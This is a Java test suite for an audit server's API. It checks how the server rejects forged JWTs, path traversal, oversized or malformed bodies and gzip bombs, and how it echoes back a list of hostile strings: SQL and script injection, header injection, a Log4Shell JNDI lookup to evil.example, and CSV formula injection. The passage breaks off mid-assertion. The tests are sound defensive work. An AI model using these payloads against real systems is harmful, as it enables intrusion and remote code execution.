package io.fileaudit.server;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import io.fileaudit.api.json.AuditJson;
import io.fileaudit.api.problem.AuditException;
import io.fileaudit.api.problem.ProblemType;
import io.fileaudit.core.store.AuditStore;
import io.fileaudit.core.store.MemoryAuditStore;
import java.io.IOException;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Proxy;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import reactor.core.publisher.Flux;
import reactor.core.publisher.Mono;

/**
 * What bad input is answered with, line by line: the list of docs/security.md, as bytes over a
 * plain connection. What Kafka brings is in RecordReaderTest, RecordTrafficTest and KafkaIT; a full
 * pool of connections in PostgresAuditStoreTest.
 */
class BadInputTest {
  private static final String JSON = "application/json";
  private static final String NDJSON = "application/x-ndjson";
  private static final String FILE = "{\"type\":\"STARTED\",\"file\":\"%s\"}";
  private static final String RUN =
      "{\"eventType\":\"START\",\"eventTime\":\"2026-11-01T10:00:00Z\",\"producer\":\"https://p\","
          + "\"run\":{\"runId\":\"3f5e83fa-3480-44ff-99c5-ff943904e5e8\"},\"job\":{\"namespace\":\"n\",\"name\":\"%s\"}}";

  @TempDir private static Path files;
  private static RSAKey ours;
  private static RSAKey foreign;
  private static Node node;
  private static String reader;
  private static String revoked;
  private static String usedLink;
  private static String cookie;

  @BeforeAll
  static void start() throws Exception {
    ours = new RSAKeyGenerator(2_048).keyID("k1").generate();
    foreign = new RSAKeyGenerator(2_048).keyID("k1").generate();
    Path keys =
        Files.writeString(files.resolve("keys.json"), new JWKSet(ours.toPublicJWK()).toString());
    node =
        Node.start(
            "AUDIT_JWT_ISSUER", "https://issuer.example",
            "AUDIT_JWT_AUDIENCE", "audit",
            "AUDIT_JWT_KEYS", keys.toString());
    reader = node.key("reader", "read", "default");
    Answer made =
        node.send(
                "POST",
                "/api/v1/keys",
                "{\"name\":\"gone\",\"scopes\":[\"read\"],\"namespaces\":[\"default\"]}")
            .is(201);
    revoked = made.at("/key");
    node.send("DELETE", "/api/v1/keys/" + made.at("/id"), "").is(200);
    usedLink = node.send("POST", "/api/v1/links", "").is(201).at("/path");
    cookie = node.sendWithout("GET", usedLink, "").is(303).header("Set-Cookie").split(";", 2)[0];
  }

  @AfterAll
  static void stop() {
    node.close();
  }

  /**
   * A line of the list.
   *
   * @param line method and target; {@code {new}} is a batch that is not there, {@code {open}} one
   *     that is, {@code {ended}} one that has ended, {@code {theirs}} one of another namespace
   * @param headers without those that every request has
   * @param body each character is one byte
   * @param words what the detail has to contain
   */
  private record Row(
      String name,
      String line,
      List<String> headers,
      String body,
      int status,
      String slug,
      List<String> words) {
    Row with(String... more) {
      List<String> all = new ArrayList<>(headers);
      all.addAll(List.of(more));
      return new Row(name, line, all, body, status, slug, words);
    }

    Row as(String key) {
      return with("Authorization: Bearer " + key);
    }

    DynamicTest test() {
      return DynamicTest.dynamicTest(status + " " + name, this::check);
    }

    private void check() throws IOException {
      Answer answer = ask();
      assertThat(Promise.broken(answer)).isNull();
      if (status < 400 || slug.isEmpty()) {
        assertThat(answer.status()).as("%s", answer).isEqualTo(status);
        words.forEach(word -> assertThat(answer.body()).contains(word));
        return;
      }
      assertThat(answer.status()).as("%s", answer).isEqualTo(status);
      assertThat(answer.at("/type")).as("%s", answer).isEqualTo("/problems/" + slug);
      words.forEach(word -> assertThat(answer.at("/detail")).contains(word));
      if (status == 401) {
        assertThat(answer.header("WWW-Authenticate")).isEqualTo("Bearer realm=\"audit\"");
      }
      node.get("/api/v1/session").is(200);
    }

    private Answer ask() throws IOException {
      StringBuilder head = new StringBuilder(put(line)).append(" HTTP/1.1\r\n");
      List<String> all = new ArrayList<>(headers);
      defaults().filter(one -> isMissing(all, one)).forEach(all::add);
      all.removeIf(one -> one.endsWith(": -"));
      all.forEach(one -> head.append(one).append("\r\n"));
      try (Wire wire = new Wire(node.port())) {
        wire.send(head + "\r\n");
        wire.send(body);
        List<WireAnswer> answers = wire.whole().answers();
        assertThat(answers).as("answers to %s", name).hasSize(1);
        return answers.get(0).answer();
      }
    }

    private Stream<String> defaults() {
      return Stream.of(
          "Host: x",
          "Connection: close",
          "Authorization: Bearer " + Node.KEY,
          "Content-Type: " + (line.endsWith("/events") ? NDJSON : JSON),
          "Content-Length: " + body.length());
    }

    private static boolean isMissing(List<String> headers, String one) {
      String name = one.substring(0, one.indexOf(':') + 1);
      boolean chunked = headers.contains("Transfer-Encoding: chunked");
      return headers.stream().noneMatch(header -> header.startsWith(name))
          && !(chunked && name.equals("Content-Length:"));
    }

    private static String put(String line) {
      String put = line.replace("{new}", Node.fresh());
      if (put.contains("{open}")) {
        put = put.replace("{open}", node.opened("{\"name\":\"one\"}"));
      }
      if (put.contains("{ended}")) {
        String ended = node.opened("");
        node.send("PUT", ended + "/status", "{\"status\":\"CANCELLED\"}").is(200);
        put = put.replace("{ended}", ended);
      }
      if (put.contains("{theirs}")) {
        String theirs = Node.fresh();
        node.send("PUT", theirs, "{}", "Audit-Namespace", "theirs").is(201);
        put = put.replace("{theirs}", theirs);
      }
      return put;
    }
  }

  private static Row row(
      String name, String line, String body, int status, String slug, String... words) {
    return new Row(name, line, List.of(), body, status, slug, List.of(words));
  }

  private static Row get(String name, String target, int status, String slug, String... words) {
    return row(name, "GET " + target, "", status, slug, words);
  }

  /** A line that is sent twice, so that the answer is that of all lines. */
  private static Row event(String name, String line, int status, String slug, String... words) {
    return row(name, "POST {open}/events", line + "\n" + line + "\n", status, slug, words);
  }

  private static Row opening(String name, String body, int status, String slug, String... words) {
    return row(name, "PUT {new}", body, status, slug, words);
  }

  private static String file(String name) {
    return FILE.formatted(name);
  }

  private static String figure(String value) {
    return "{\"type\":\"COMPLETED\",\"file\":\"a\",\"rows\":" + value + "}";
  }

  private static String latin(byte[] bytes) {
    return new String(bytes, StandardCharsets.ISO_8859_1);
  }

  @TestFactory
  Stream<DynamicTest> noKeyThatIsGood() throws Exception {
    String path = "/api/v1/batches";
    return Stream.of(
            get("no key", path, 401, "unauthenticated", "Authorization").as(""),
            get("no header", path, 401, "unauthenticated", "Authorization")
                .with("Authorization: -"),
            get("another scheme", path, 401, "unauthenticated").with("Authorization: Basic eDp5"),
            get("a wrong key", path, 401, "unauthenticated").as("ak_" + "x".repeat(43)),
            get("a revoked key", path, 401, "unauthenticated").as(revoked),
            get("a session as a key", path, 401, "unauthenticated").as("as_" + "x".repeat(43)),
            get("a JWT that has expired", path, 401, "unauthenticated").as(expired()),
            get("a JWT that is not valid yet", path, 401, "unauthenticated").as(early()),
            get("a JWT with alg=none", path, 401, "unauthenticated").as(unsigned()),
            get("a JWT with HS256 and the public key", path, 401, "unauthenticated").as(confused()),
            get("a JWT for another audience", path, 401, "unauthenticated").as(otherAudience()),
            get("a JWT with a foreign jku", path, 401, "unauthenticated").as(foreignJku()),
            get("a JWT that is no JSON", path, 401, "unauthenticated").as("e30.e30.AAAA"),
            get("a JWT of 2,000 levels", path, 401, "unauthenticated")
                .as("W1tb".repeat(600) + ".e30.AAAA"),
            get("a good JWT", path, 200, "").as(good()),
            get("a link that was used", usedLink, 401, "", "used before").with("Authorization: -"))
        .map(Row::test);
  }

  private static JWTClaimsSet.Builder claims() {
    return new JWTClaimsSet.Builder()
        .issuer("https://issuer.example")
        .audience("audit")
        .subject("alice")
        .expirationTime(Date.from(Instant.now().plusSeconds(3_600)))
        .claim("scope", "admin")
        .claim("namespaces", "*");
  }

  private static String signed(JWSHeader header, JWTClaimsSet claims, JWSSigner by)
      throws JOSEException {
    SignedJWT jwt = new SignedJWT(header, claims);
    jwt.sign(by);
    return jwt.serialize();
  }

  private static JWSHeader rs256() {
    return new JWSHeader.Builder(JWSAlgorithm.RS256).keyID("k1").build();
  }

  private static String good() throws JOSEException {
    return signed(rs256(), claims().build(), new RSASSASigner(ours));
  }

  private static String expired() throws JOSEException {
    Date past = Date.from(Instant.now().minusSeconds(600));
    return signed(rs256(), claims().expirationTime(past).build(), new RSASSASigner(ours));
  }

  private static String early() throws JOSEException {
    Date later = Date.from(Instant.now().plusSeconds(600));
    return signed(rs256(), claims().notBeforeTime(later).build(), new RSASSASigner(ours));
  }

  private static String unsigned() {
    return new PlainJWT(claims().build()).serialize();
  }

  private static String confused() throws JOSEException {
    return signed(
        new JWSHeader.Builder(JWSAlgorithm.HS256).keyID("k1").build(),
        claims().build(),
        new MACSigner(ours.toRSAPublicKey().getEncoded()));
  }

  private static String otherAudience() throws JOSEException {
    return signed(rs256(), claims().audience("other").build(), new RSASSASigner(ours));
  }

  private static String foreignJku() throws JOSEException {
    return signed(
        new JWSHeader.Builder(JWSAlgorithm.RS256)
            .keyID("k1")
            .jwkURL(URI.create("https://evil.example/keys"))
            .jwk(foreign.toPublicJWK())
            .build(),
        claims().build(),
        new RSASSASigner(foreign));
  }

  @TestFactory
  Stream<DynamicTest> notAllowedOrNotThere() {
    return Stream.of(
            opening("a scope that is missing", "{}", 403, "forbidden", "ingest").as(reader),
            get("a scope that is missing, keys", "/api/v1/keys", 403, "forbidden", "admin")
                .as(reader),
            row("a cross-site POST", "POST {open}/events", file("a"), 403, "forbidden", "page")
                .with(
                    "Authorization: -",
                    "Cookie: " + cookie,
                    "Origin: https://evil.example",
                    "Sec-Fetch-Site: cross-site"),
            opening("a change with a session and no token", "{}", 403, "forbidden", "X-CSRF-Token")
                .with("Authorization: -", "Cookie: " + cookie),
            get("a namespace of others", "/api/v1/batches", 403, "forbidden", "theirs")
                .as(reader)
                .with("Audit-Namespace: theirs"),
            get("another namespace's batch", "{theirs}", 404, "not-found"),
            get("its feed", "{theirs}/feed", 404, "not-found"),
            get("its files", "{theirs}/files", 404, "not-found"),
            get("its ledger", "{theirs}/ledger", 404, "not-found"),
            row("events for it", "POST {theirs}/events", file("a"), 404, "not-found"),
            row("a change of it", "PATCH {theirs}", "{\"labels\":{\"a\":\"b\"}}", 404, "not-found"),
            get("the settings on the public port", "/actuator/env", 404, "not-found"),
            get("an id that is none", "/api/v1/batches/1-1-1-1-1", 404, "not-found"),
            row("a key that is not there", "DELETE /api/v1/keys/x", "", 404, "not-found"),
            row("no such method", "TRACE /api/v1/batches", "", 405, "method-not-allowed", "TRACE"),
            row(
                "a method of 5,000 letters",
                "X".repeat(5_000) + " /api/v1/batches",
                "",
                405,
                "method-not-allowed"))
        .map(Row::test);
  }

  @TestFactory
  Stream<DynamicTest> notToBeRead() {
    String digits = "1".repeat(10_000);
    String deep = "[".repeat(1_000) + "]".repeat(1_000);
    return Stream.of(
            event("an event that is no JSON", "not json", 400, "malformed-json", "JSON"),
            opening("an opening that is no JSON", "not json", 400, "malformed-json", "JSON"),
            row(
                "a last line that is cut",
                "POST {open}/events",
                "{\"type\":\"STARTED\",\"fi",
                400,
                "malformed-json",
                "JSON"),
            event(
                "a name that is there twice",
                "{\"type\":\"STARTED\",\"file\":\"a\",\"file\":\"b\"}",
                400,
                "malformed-json",
                "file"),
            opening(
                "the same of an opening",
                "{\"name\":\"a\",\"name\":\"b\"}",
                400,
                "malformed-json",
                "name"),
            event(
                "1,000 levels",
                "{\"type\":\"STARTED\",\"file\":\"a\",\"attributes\":{\"a\":" + deep + "}}",
                400,
                "malformed-json"),
            opening(
                "1,000 levels of an opening", "{\"labels\":" + deep + "}", 400, "malformed-json"),
            event("a number of 10,000 digits", figure(digits), 400, "malformed-json"),
            opening(
                "the same of an opening",
                "{\"max_skipped\":" + digits + "}",
                400,
                "malformed-json"),
            row(
                "the same of a change",
                "PATCH {open}",
                "{\"labels\":" + digits + "}",
                400,
                "malformed-json"),
            event("no UTF-8", file("\u00ff"), 400, "malformed-json", "UTF-8"),
            event("half a character", file("\u00c3"), 400, "malformed-json", "UTF-8"),
            event(
                "a surrogate as UTF-8", file("\u00ed\u00a0\u0080"), 400, "malformed-json", "UTF-8"),
            event("a NUL byte", file("a\u0000"), 400, "malformed-json", "NUL"),
            opening("no UTF-8 in an opening", "{\"name\":\"\u00ff\"}", 400, "malformed-json"),
            row(
                    "an array that is not closed",
                    "POST {open}/events",
                    "[" + file("a"),
                    400,
                    "malformed-json",
                    "not closed")
                .with("Content-Type: " + JSON),
            row("gzip that is none", "POST {open}/events", "no gzip", 400, "malformed-json", "gzip")
                .with("Content-Encoding: gzip"),
            get("a Last-Event-ID that is none", "{open}/feed", 400, "bad-request", "Last-Event-ID")
                .with("Last-Event-ID: x'; --"),
            get("one beyond 2^53", "/api/v1/feed", 400, "bad-request", "Last-Event-ID")
                .with("Last-Event-ID: 9007199254740992"),
            get("a cursor that is none", "/api/v1/batches?cursor=x", 400, "bad-request", "cursor"),
            get(
                "a forged cursor",
                "/api/v1/batches?cursor=YisxMDAwMDAwMDAwLTAxLTAxVDAwOjAwOjAwWiAwMDAwMDAwMC0wMDAwLTAwMDAtMDAwMC0wMDAwMDAwMDAwMDAg",
                400,
                "bad-request",
                "cursor"),
            get("a key in the query", "/api/v1/batches?key=" + Node.KEY, 400, "bad-request", "URL"),
            get("..%2f", "/api/v1/batches/..%2f..%2factuator%2fenv", 400, "bad-request", "path"),
            get("../", "/api/v1/batches/../../actuator/env", 400, "bad-request", "path"),
            get("%00 in the path", "/api/v1/batches/%00", 400, "bad-request", "path"),
            get("no UTF-8 in the path", "/api/v1/tables/%ff/periods/x", 400, "bad-request", "path"),
            row(
                "the same, to be written",
                "PUT /api/v1/expectations/%c0%80",
                "{\"schedule\":\"0 6 * * *\"}",
                400,
                "bad-request",
                "path"),
            get("no UTF-8 in the query", "/api/v1/batches?q=%ff", 400, "bad-request", "UTF-8"),
            get(
                "a parameter that is not known",
                "/api/v1/batches?stauts=FAILED",
                400,
                "bad-request",
                "stauts"),
            get("a wait of a year", "{open}?wait=P365D", 400, "bad-request", "wait"),
            get("51 forms", "/api/v1/batches", 400, "bad-request", "Accept")
                .with("Accept: " + "a/b,".repeat(50) + "a/b"),
            get("50 forms", "/api/v1/batches", 406, "not-acceptable", "Accept")
                .with("Accept: " + "a/b,".repeat(49) + "a/b"),
            get(
                    "a namespace that is none",
                    "/api/v1/batches",
                    400,
                    "bad-request",
                    "Audit-Namespace")
                .with("Audit-Namespace: ../x"),
            row(
                    "a run that is none",
                    "POST {open}/events",
                    file("a"),
                    400,
                    "bad-request",
                    "Audit-Run")
                .with("Audit-Run: -1"),
            row(
                    "a producer with control characters",
                    "POST {open}/events",
                    file("a"),
                    400,
                    "bad-request",
                    "Audit-Producer")
                .with("Audit-Producer: a\tb"),
            row(
                    "a CloudEvent in binary mode",
                    "POST {open}/events",
                    "{}",
                    400,
                    "bad-request",
                    "binary mode")
                .with("ce-specversion: 1.0"),
            row("a chunk of no size", "POST {open}/events", "zz\r\n", 400, "bad-request")
                .with("Transfer-Encoding: chunked"),
            row(
                    "chunks for a call that has answered",
                    "POST {open}/rejected/replay",
                    "2\r\n{}zz\r\n",
                    400,
                    "bad-request")
                .with("Transfer-Encoding: chunked"),
            get("two lengths", "/api/v1/batches", 400, "bad-request")
                .with("Content-Length: 1", "Content-Length: 2"),
            get("no Host", "/api/v1/batches", 400, "bad-request").with("Host: -"),
            get("two Hosts", "/api/v1/batches", 400, "bad-request").with("Host: x", "Host: y"),
            row("another version", "GET /api/v1/batches HTTP/9.9\r\nX:", "", 400, "bad-request"))
        .map(Row::test);
  }

  @TestFactory
  Stream<DynamicTest> notAsItHasToBe() {
    Instant tomorrow = Instant.now().plusSeconds(86_400);
    String long1025 = "x".repeat(1_025);
    String emoji = "x".repeat(78) + latin("😀".repeat(90).getBytes(StandardCharsets.UTF_8));
    String cloud =
        "{\"specversion\":\"1.0\",\"id\":\"1\",\"source\":\"%s\",\"type\":\"io.fileaudit.file.started\",\"subject\":\"%s\"}";
    return Stream.of(
            event("U+0000", file("a\\u0000"), 422, "invalid-event", "U+0000"),
            opening(
                "U+0000 in an opening",
                "{\"name\":\"a\\u0000\"}",
                422,
                "invalid-request",
                "U+0000"),
            row(
                "U+0000 in a label to be",
                "PATCH {open}",
                "{\"labels\":{\"a\":\"\\u0000\"}}",
                422,
                "invalid-request",
                "U+0000"),
            row(
                "U+0000 in a message",
                "PUT {open}/status",
                "{\"status\":\"FAILED\",\"message\":\"\\u0000\"}",
                422,
                "invalid-request",
                "U+0000"),
            row(
                "U+0000 in a job",
                "POST /api/v1/lineage",
                RUN.formatted("\\u0000"),
                422,
                "invalid-event",
                "U+0000"),
            row(
                "U+0000 in a source",
                "POST {open}/events",
                cloud.formatted("\\u0000", "a"),
                422,
                "invalid-event",
                "source"),
            row(
                "U+0000 in a schedule",
                "PUT /api/v1/expectations/t",
                "{\"schedule\":\"0 6 * * \\u0000\"}",
                422,
                "invalid-request",
                "schedule"),
            row(
                "U+0000 in a key's name",
                "POST /api/v1/keys",
                "{\"name\":\"\\u0000\",\"scopes\":[\"read\"],\"namespaces\":[\"n\"]}",
                422,
                "invalid-request",
                "name"),
            event(
                "an unknown field",
                "{\"type\":\"STARTED\",\"file\":\"a\",\"chekcsum\":\"x\"}",
                422,
                "invalid-event",
                "chekcsum"),
            event(
                "an unknown field of 40,000 letters",
                "{\"type\":\"STARTED\",\"file\":\"a\",\"" + "x".repeat(40_000) + "\":1}",
                422,
                "invalid-event",
                "x…",
                "attributes"),
            opening(
                "an unknown field of an opening",
                "{\"nmae\":\"x\"}",
                422,
                "invalid-request",
                "nmae"),
            event(
                "an unknown type",
                "{\"type\":\"DONE\",\"file\":\"a\"}",
                422,
                "invalid-event",
                "DONE",
                "COMPLETED"),
            event(
                "one that is cut where it is shown",
                "{\"type\":\"" + emoji + "\"}",
                422,
                "invalid-event",
                "x…"),
            event("a figure below 0", figure("-1"), 422, "invalid-event", "rows is -1"),
            event(
                "a figure beyond 2^53-1",
                figure("9007199254740992"),
                422,
                "invalid-event",
                "9007199254740992"),
            event("a figure beyond all", figure("1e400"), 422, "invalid-event", "rows"),
            event("a figure in parts", figure("1.5"), 422, "invalid-event", "rows is 1.5"),
            event("a figure as a text", figure("\"1\""), 422, "invalid-event", "rows"),
            event(
                "a time a day ahead",
                file("a").replace("}", ",\"at\":\"" + tomorrow + "\"}"),
                422,
                "invalid-event",
                "ahead"),
            event(
                "a time that is none",
                file("a").replace("}", ",\"at\":\"2026-02-30T00:00:00Z\"}"),
                422,
                "invalid-event",
                "at is"),
            event("a file without a name", file(""), 422, "invalid-event", "file has 0 characters"),
            event(
                "a file's name of 1,025 characters",
                file(long1025),
                422,
                "invalid-event",
                "1025",
                "1024"),
            event(
                "a file's name that is null",
                "{\"type\":\"STARTED\",\"file\":null}",
                422,
                "invalid-event",
                "file"),
            event("half of a surrogate pair", file("\\ud800"), 422, "invalid-event", "surrogate"),
            event("no object", "5", 422, "invalid-event", "object"),
            opening(
                "a limit that is none",
                "{\"limits\":{\"idle\":\"ten minutes\"}}",
                422,
                "invalid-request",
                "PT30M"),
            opening(
                "limits that contradict each other",
                "{\"limits\":{\"operation\":\"PT1M\",\"idle\":\"PT2M\"}}",
                422,
                "invalid-request",
                "idle"),
            row(
                "a change of what cannot be changed",
                "PATCH {open}",
                "{\"name\":\"x\"}",
                422,
                "invalid-request",
                "name"),
            row("a change of nothing", "PATCH {open}", "", 422, "invalid-request", "empty"),
            row(
                "a limit of 40,000 letters",
                "PATCH {open}",
                "{\"limits\":{\"" + "x".repeat(40_000) + "\":1}}",
                422,
                "invalid-request",
                "unknown limit",
                "idle"),
            row(
                "a status that there is not",
                "PUT {open}/status",
                "{\"status\":\"DONE\"}",
                422,
                "invalid-request",
                "DONE"),
            row(
                "numbers that are none",
                "POST {open}/rejected/replay",
                "{\"numbers\":[0]}",
                422,
                "invalid-request",
                "numbers"),
            row(
                "a schedule that is none",
                "PUT /api/v1/expectations/t",
                "{\"schedule\":\"at six\"}",
                422,
                "invalid-request",
                "cron"),
            row(
                "a schedule that is never due",
                "PUT /api/v1/expectations/t",
                "{\"schedule\":\"0 0 30 2 *\"}",
                422,
                "invalid-request",
                "never due"),
            row(
                "a zone that there is not",
                "PUT /api/v1/expectations/t",
                "{\"schedule\":\"0 6 * * *\",\"zone\":\"Mars/Base\"}",
                422,
                "invalid-request",
                "Mars/Base"),
            row(
                "a grace of 10,000 years",
                "PUT /api/v1/expectations/t",
                "{\"schedule\":\"0 6 * * *\",\"grace\":\"P3650000D\"}",
                422,
                "invalid-request",
                "grace"),
            row(
                "a scope that there is not",
                "POST /api/v1/keys",
                "{\"name\":\"k\",\"scopes\":[\"root\"],\"namespaces\":[\"n\"]}",
                422,
                "invalid-request",
                "root"),
            row(
                "a life below 0",
                "POST /api/v1/keys",
                "{\"name\":\"k\",\"scopes\":[\"read\"],\"namespaces\":[\"n\"],\"expires_after\":\"-P1D\"}",
                422,
                "invalid-request",
                "expires_after"),
            row(
                "a run without a run",
                "POST /api/v1/lineage",
                "{\"eventType\":\"START\"}",
                422,
                "invalid-event",
                "run"),
            row(
                "two runs where one was expected",
                "POST /api/v1/lineage",
                RUN.formatted("j") + RUN.formatted("j"),
                400,
                "malformed-json",
                "behind"),
            row(
                "a run where an array was expected",
                "POST /api/v1/lineage/batch",
                RUN.formatted("j"),
                422,
                "invalid-request",
                "array"),
            row(
                "lineage that is no JSON",
                "POST /api/v1/lineage/batch",
                "[",
                400,
                "malformed-json",
                "JSON"),
            row(
                "one bad run of two",
                "POST /api/v1/lineage/batch",
                "[" + RUN.formatted("j") + ",5]",
                200,
                "",
                "partial_success",
                "\"index\":1"),
            row(
                    "a CloudEvent without a source",
                    "POST {open}/events",
                    cloud.replace("\"source\"", "\"sauce\"").formatted("s", "a"),
                    422,
                    "invalid-event",
                    "source")
                .with("Content-Type: application/cloudevents+json"),
            row(
                    "a plain event said to be a CloudEvent",
                    "POST {open}/events",
                    file("a"),
                    422,
                    "invalid-event",
                    "specversion")
                .with("Content-Type: application/cloudevents+json"),
            row(
                    "an array said to be one CloudEvent",
                    "POST {open}/events",
                    "[]",
                    422,
                    "invalid-request",
                    "array")
                .with("Content-Type: application/cloudevents+json"),
            row(
                    "one CloudEvent said to be many",
                    "POST {open}/events",
                    cloud.formatted("s", "a"),
                    422,
                    "invalid-request",
                    "array")
                .with("Content-Type: application/cloudevents-batch+json"))
        .map(Row::test);
  }

  @TestFactory
  Stream<DynamicTest> notAsThingsStand() {
    return Stream.of(
            row(
                "an event after the end",
                "POST {ended}/events",
                file("a"),
                409,
                "batch-ended",
                "CANCELLED"),
            row("a heartbeat after the end", "PUT {ended}/heartbeat", "", 409, "batch-ended"),
            row(
                "a change after the end",
                "PATCH {ended}",
                "{\"labels\":{\"a\":\"b\"}}",
                409,
                "batch-ended"),
            row(
                    "an older run",
                    "POST {resumed}/events".replace("{resumed}", resumed()),
                    file("a"),
                    409,
                    "stale-run",
                    "run 1",
                    "is 2")
                .with("Audit-Run: 1"),
            row("a run to come", "POST {open}/events", file("a"), 409, "stale-run")
                .with("Audit-Run: 2"),
            row(
                    "a position with other content",
                    "POST " + numbered() + "/events",
                    file("b").replace("}", ",\"position\":1}"),
                    409,
                    "key-conflict",
                    "position 1")
                .with("Audit-Producer: p"),
            row(
                "an id with other content",
                "POST " + named() + "/events",
                file("b").replace("}", ",\"id\":\"i\"}"),
                409,
                "key-conflict",
                "id"),
            row(
                "a status that cannot follow",
                "PUT {ended}/status",
                "{\"status\":\"COMPLETED\"}",
                409,
                "batch-ended"),
            row(
                "running what runs",
                "PUT {open}/status",
                "{\"status\":\"RUNNING\"}",
                409,
                "invalid-transition"),
            row(
                "an opening with other fields",
                "PUT {open}",
                "{\"name\":\"two\"}",
                409,
                "batch-conflict",
                "name"),
            row(
                "an ending with sub-batches open",
                "PUT " + parent() + "/status",
                "{\"status\":\"COMPLETED\"}",
                409,
                "sub-batches-open"))
        .map(Row::test);
  }

  private static String resumed() {
    String batch = node.opened("");
    node.send("PUT", batch + "/status", "{\"status\":\"FAILED\"}").is(200);
    node.send("PUT", batch + "/status", "{\"status\":\"RUNNING\"}").is(200);
    return batch;
  }

  private static String numbered() {
    String batch = node.opened("");
    node.events(batch, file("a").replace("}", ",\"position\":1}"), "Audit-Producer", "p").is(200);
    return batch;
  }

  private static String named() {
    String batch = node.opened("");
    node.events(batch, file("a").replace("}", ",\"id\":\"i\"}")).is(200);
    return batch;
  }

  private static String parent() {
    String batch = node.opened("");
    node.opened("{\"parent\":\"" + batch.substring(batch.lastIndexOf('/') + 1) + "\"}");
    return batch;
  }

  @TestFactory
  Stream<DynamicTest> tooMuchOrOfAnotherForm() {
    String bomb = latin(Mutations.gzip(new byte[8 * 1024 * 1024]));
    return Stream.of(
            event("a line of 64 KiB and more", file("x".repeat(65_536)), 413, "too-large", "65536"),
            row(
                "a line without end",
                "POST {open}/events",
                "x".repeat(3_000_000),
                413,
                "too-large",
                "65536"),
            row("a gzip bomb", "POST {open}/events", bomb, 413, "too-large", "200 times")
                .with("Content-Encoding: gzip"),
            row(
                    "a gzip bomb of lineage",
                    "POST /api/v1/lineage",
                    bomb,
                    413,
                    "too-large",
                    "200 times")
                .with("Content-Encoding: gzip"),
            row(
                "a status of 64 KiB and more",
                "PUT {open}/status",
                "{" + " ".repeat(65_536) + "}",
                413,
                "too-large",
                "65536"),
            row(
                    "the same in chunks",
                    "PUT {open}/status",
                    "11000\r\n{" + " ".repeat(0x10fff) + "\r\n0\r\n\r\n",
                    413,
                    "too-large",
                    "65536")
                .with("Transfer-Encoding: chunked"),
            row(
                "1,001 runs",
                "POST /api/v1/lineage/batch",
                "[" + "5,".repeat(1_000) + "5]",
                413,
                "too-large",
                "1001"),
            get(
                "a request line of 17 KiB",
                "/api/v1/batches?q=" + "x".repeat(17_000),
                414,
                "too-large",
                "request line"),
            get("headers of 9 KiB", "/api/v1/batches", 431, "too-large", "headers")
                .with("X: " + "x".repeat(9_000)),
            row(
                    "events as text",
                    "POST {open}/events",
                    file("a"),
                    415,
                    "unsupported-media-type",
                    "text/plain")
                .with("Content-Type: text/plain"),
            opening("an opening as text", "{}", 415, "unsupported-media-type", "text/plain")
                .with("Content-Type: text/plain"),
            row(
                    "events in latin1",
                    "POST {open}/events",
                    file("a"),
                    415,
                    "unsupported-media-type",
                    "UTF-8")
                .with("Content-Type: application/x-ndjson;charset=latin1"),
            row("events in br", "POST {open}/events", "x", 415, "unsupported-media-type", "br")
                .with("Content-Encoding: br"),
            row("lineage in br", "POST /api/v1/lineage", "x", 415, "unsupported-media-type", "br")
                .with("Content-Encoding: br"))
        .map(Row::test);
  }

  /** Names over which shells, browsers, loggers, spreadsheets and databases have stumbled. */
  private static final List<String> DANGEROUS =
      List.of(
          "'; DROP TABLE batch; --",
          "<script>alert(1)</script>",
          "a\r\nSet-Cookie: x=y",
          "\u001b[31mred\u001b[0m\u0007",
          "${jndi:ldap://evil.example/a}",
          "=cmd|' /C calc'!A0",
          "+1",
          "-1",
          "@SUM(A1)",
          "../../etc/passwd",
          "C:\\con",
          "%s%n%00",
          "{{7*7}}",
          "\u202egpj.exe",
          "e\u0301 \u00e9 😀 \ufeff");

  @Test
  void textThatOthersStumbleOverIsStoredAndGivenBackWordForWord() throws IOException {
    String batch = node.opened("{\"labels\":{\"<b>\":\"=1+1\"}}");
    String lines =
        DANGEROUS.stream()
            .map(
                text -> {
                  String json = AuditJson.strict().writeValueAsString(text);
                  return "{\"type\":\"FAILED\",\"file\":"
                      + json
                      + ",\"error\":{\"code\":\"c\",\"message\":"
                      + json
                      + "},\"attributes\":{\"a\":"
                      + json
                      + "}}\n";
                })
            .collect(Collectors.joining());

    assertThat(node.events(batch, lines).is(200).at("/accepted"))
        .isEqualTo(Integer.toString(DANGEROUS.size()));

    assertThat(node.get(batch + "/files").is(200).items("file"))
        .containsExactlyInAnyOrderElementsOf(DANGEROUS);
    List<String> ofLedger =
        node.get(batch + "/ledger")
            .is(200)
            .body()
            .lines()
            .map(row -> AuditJson.lenient().readTree(row))
            .peek(row -> assertThat(row.at("/event/attributes/a")).isEqualTo(row.at("/event/file")))
            .peek(
                row -> assertThat(row.at("/event/error/message")).isEqualTo(row.at("/event/file")))
            .map(row -> row.at("/event/file").asString())
            .toList();
    assertThat(ofLedger).containsExactlyElementsOf(DANGEROUS);
    String csv = node.get(batch + "/files", "Accept", "text/csv").is(200).body();
    assertThat(csv)
        .contains("\r\n'; DROP TABLE batch; --,FAILED", "\r\n<script>alert(1)</script>,FAILED")
        .contains("\r\n\"a\r\nSet-Cookie: x=y\",FAILED", "\r\n${jndi:ldap://evil.example/a},FAILED")
        .contains(
            "\r\n'=cmd|' /C calc'!A0,FAILED",
            "\r\n'+1,FAILED",
            "\r\n'-1,FAILED",
